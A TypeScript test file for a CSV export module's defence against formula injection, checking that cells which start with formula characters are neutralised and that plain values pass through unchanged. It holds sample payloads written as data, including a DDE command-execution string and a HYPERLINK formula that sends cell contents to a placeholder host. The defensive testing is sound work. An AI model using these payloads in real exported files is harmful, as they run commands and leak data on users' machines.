import fc from "fast-check";
import t from "tap";
import { type Column, csvHead, csvRow } from "../../src/audit/csv.ts";
import { holds } from "../support/holds.ts";

const TWO: readonly Column<readonly [string, string]>[] = [
  { en: "one", zh: "一", of: ([one]) => one },
  { en: "two", zh: "二", of: ([, two]) => two },
];
const ANY: readonly Column<unknown>[] = [{ en: "value", zh: "值", of: (value) => value as string }];

/** One line as a spreadsheet reads it (RFC 4180). */
function fieldsOf(line: string): string[] {
  const fields: string[] = [];
  let at = 0;
  for (;;) {
    let field = "";
    if (line[at] === '"') {
      at++;
      for (;;) {
        const end = line.indexOf('"', at);
        if (end === -1) throw new Error("a quote is not closed");
        field += line.slice(at, end);
        at = end + 1;
        if (line[at] !== '"') break;
        field += '"';
        at++;
      }
    } else {
      const [plain = ""] = /^[^",\r\n]*/.exec(line.slice(at)) ?? [];
      field = plain;
      at += plain.length;
    }
    fields.push(field);
    if (line.slice(at) === "\r\n") return fields;
    if (line[at] !== ",") throw new Error("neither a comma nor the end of the line");
    at++;
  }
}

// What OWASP's page on CSV injection names, and what programs pass over before they look: blanks and marks.
const STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
const PASSED_OVER = ["", " ", "\u00a0", "\u3000", "\ufeff", "\t ", "\0"];

t.test("what a spreadsheet would run is made a text", async (t) => {
  for (const blank of PASSED_OVER) {
    for (const start of STARTS) {
      for (const rest of ["", "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"y")', "1,=2", "1\r\n=2"]) {
        const text = blank + start + rest;
        const [field, next, ...more] = fieldsOf(csvRow(TWO, [text, "housing"]));
        t.equal(field, `'${text}`, JSON.stringify(text));
        t.same([next, ...more], ["housing"], "and nothing of it gets into the next field");
      }
    }
  }
});

t.test("numbers and plain texts stay as they are", async (t) => {
  for (const value of [
    0,
    -1,
    7700,
    0.25,
    -12.5,
    true,
    "-3",
    "housing",
    "a=b",
    "2026-11-23T09:00:00.000Z",
    " text",
    "",
  ]) {
    t.same(fieldsOf(csvRow(ANY, value)), [String(value)]);
  }
  for (const nothing of [null, undefined]) t.equal(csvRow(ANY, nothing), "\r\n");
  // No number as a whole, however it begins.
  for (const text of ["-1-1", "-1\n", "--1", "-1e9", "-"]) t.same(fieldsOf(csvRow(ANY, text)), [`'${text}`]);
});

t.test("whatever a field holds, the line has its columns, and none begins a formula", async (t) => {
  const text = fc.string({
    unit: fc.oneof(fc.constantFrom(...STARTS, '"', ",", "'", " ", "1"), fc.string({ unit: "grapheme", maxLength: 1 })),
  });
  await holds(
    t,
    fc.property(text, text, (one, two) => {
      const fields = fieldsOf(csvRow(TWO, [one, two]));
      if (fields.length !== 2) return false;
      return [one, two].every((asked, n) => {
        const field = fields[n] ?? "";
        const runs = STARTS.some((start) => field.trimStart().startsWith(start) || field.startsWith(start));
        return (field === asked || field === `'${asked}`) && (!runs || /^-\d+(\.\d+)?$/.test(field));
      });
    }),
    { numRuns: 2_000 },
  );
});

t.test("headings are fields too", async (t) => {
  const odd: readonly Column<unknown>[] = [{ en: 'a "b", c', zh: "甲，乙", of: () => "" }];
  t.equal(csvHead(odd, "en"), '"a ""b"", c"\r\n');
  t.equal(csvHead(odd, "zh"), "\ufeff甲，乙\r\n");
});
